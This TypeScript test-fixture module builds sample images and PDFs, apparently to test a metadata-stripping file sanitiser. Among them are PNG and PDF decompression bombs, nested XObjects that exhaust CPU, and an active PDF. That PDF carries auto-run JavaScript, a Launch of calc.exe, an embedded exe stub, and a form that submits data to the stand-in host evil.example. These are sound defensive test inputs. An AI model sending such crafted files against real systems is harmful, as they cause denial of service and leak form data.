import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Stands in what a picture must not carry along. */
export const CANARY = 'CANARY-48.8566N-2.3522E';

/** A red picture that says where and by whom it was taken, turned on its side by its metadata alone. */
export const jpegWithPlace = async (width = 60, height = 40): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: '#c00000' } })
    .withExif({
      IFD0: { Make: CANARY },
      IFD2: { UserComment: CANARY },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 23/1', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 7/1' },
    })
    .withMetadata({ orientation: 6 })
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><!-- ${CANARY} --></x:xmpmeta>`)
    .jpeg()
    .toBuffer();

export const png = (width = 20, height = 10): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 4, background: '#0000ff80' } })
    .png()
    .toBuffer();

const chunk = (kind: string, content: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(kind), content]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(content.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
};

/** A small file that says it is a grey picture of that size. All its pixels are there when `whole`. */
export const pngBomb = (width: number, height: number, whole = false): Buffer => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  // One bit a pixel, grey.
  head.set([1, 0, 0, 0, 0], 8);
  const rows = whole ? (Math.ceil(width / 8) + 1) * height : 1_000;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(rows))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};

/** A picture with a text chunk that holds the canary. */
export const pngWithText = async (): Promise<Buffer> => {
  const plain = await png();
  const end = plain.length - 12;
  return Buffer.concat([plain.subarray(0, end), chunk('tEXt', Buffer.from(`Comment\0${CANARY}`)), plain.subarray(end)]);
};

/** Two frames, the second with the canary in it. */
export const movingPng = async (): Promise<Buffer> => {
  const still = await png();
  const [signature, end] = [33, still.length - 12];
  const control = (...numbers: number[]) => {
    const bytes = Buffer.alloc(numbers.length * 4);
    for (const [index, value] of numbers.entries()) bytes.writeUInt32BE(value, index * 4);
    return bytes;
  };
  const frame = (sequence: number) =>
    chunk('fcTL', Buffer.concat([control(sequence, 20, 10, 0, 0, 0x00010001), Buffer.alloc(2)]));
  return Buffer.concat([
    still.subarray(0, signature),
    chunk('acTL', control(2, 0)),
    frame(0),
    still.subarray(signature, end),
    frame(1),
    chunk('fdAT', Buffer.concat([control(2), Buffer.from(CANARY)])),
    still.subarray(end),
  ]);
};

/** A PDF of these objects, the first of which is its catalogue. */
export const pdfOf = (objects: readonly (string | Buffer)[], trailer = ''): Buffer => {
  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = chunks[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    const body = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      typeof object === 'string' ? Buffer.from(object, 'latin1') : object,
      Buffer.from('\nendobj\n'),
    ]);
    chunks.push(body);
    length += body.length;
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  chunks.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer}>>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(chunks);
};

export const pdfStream = (content: string | Buffer, dictionary = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`<< /Length ${content.length} ${dictionary} >>\nstream\n`),
    typeof content === 'string' ? Buffer.from(content, 'latin1') : content,
    Buffer.from('\nendstream'),
  ]);

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const page = (more = '', box = '0 0 595 842') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${more} >>`;

/** One page that says something. */
export const pdf = (content: string | Buffer = 'BT /F 40 Tf 72 700 Td (Bonjour) Tj ET', box = '0 0 595 842'): Buffer =>
  pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page('', box), pdfStream(content), HELVETICA]);

export const pdfOfPages = (count: number): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} >>`,
    page(),
    pdfStream('BT /F 40 Tf 72 700 Td (Encore) Tj ET'),
    HELVETICA,
  ]);

/** All that a PDF can do: a script when it opens, a link, a form that sends itself away, a file inside, and a program to start. */
export const activePdf = (): Buffer =>
  pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('${CANARY}'\\)) >>
        /AA << /WC << /S /Launch /F (calc.exe) >> >>
        /AcroForm << /Fields [6 0 R] /DR << /Font << /F 5 0 R >> >> /DA (/F 30 Tf 0 g) >>
        /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >> >>`,
      PAGES,
      page('/Annots [6 0 R 7 0 R]'),
      pdfStream('BT /F 40 Tf 72 700 Td (Bonjour) Tj ET'),
      HELVETICA,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Marie Dupont) /Rect [72 500 400 560] /F 4 /P 3 0 R
        /DA (/F 30 Tf 0 g) /AP << /N 9 0 R >> /A << /S /SubmitForm /F (https://evil.example/) >> >>`,
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>',
      '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
      pdfStream(
        '/Tx BMC q BT /F 30 Tf 0 g 2 20 Td (Marie Dupont) Tj ET Q EMC',
        '/Type /XObject /Subtype /Form /BBox [0 0 328 60] /Resources << /Font << /F 5 0 R >> >>',
      ),
      pdfStream(`MZ ${CANARY}`, '/Type /EmbeddedFile'),
    ],
    `/Info << /Author (${CANARY}) >> `,
  );

/** Needs a password to be opened. */
export const lockedPdf = (): Buffer =>
  pdfOf(
    ['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page(), pdfStream('0'.repeat(40)), HELVETICA],
    `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> /ID [<00> <00>] `,
  );

/** A page whose drawing is `bytes` long once it is unpacked, and a thousand times shorter as it stands. */
export const pdfBomb = (bytes: number): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    page(),
    pdfStream(deflateSync(Buffer.alloc(bytes, 'q Q ')), '/Filter /FlateDecode'),
    HELVETICA,
  ]);

/** A page that draws a thing that draws a thing ten times, and so on: `depth` noughts of work, and no memory. */
export const pdfLabour = (depth: number): Buffer => {
  const draws = (level: number) =>
    pdfStream(
      level === depth ? '0 0 400 400 re f' : '/X Do '.repeat(10),
      `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${6 + level} 0 R >> >>`,
    );
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    pdfStream('/X Do'),
    ...Array.from({ length: depth + 1 }, (_, level) => draws(level)),
  ]);
};
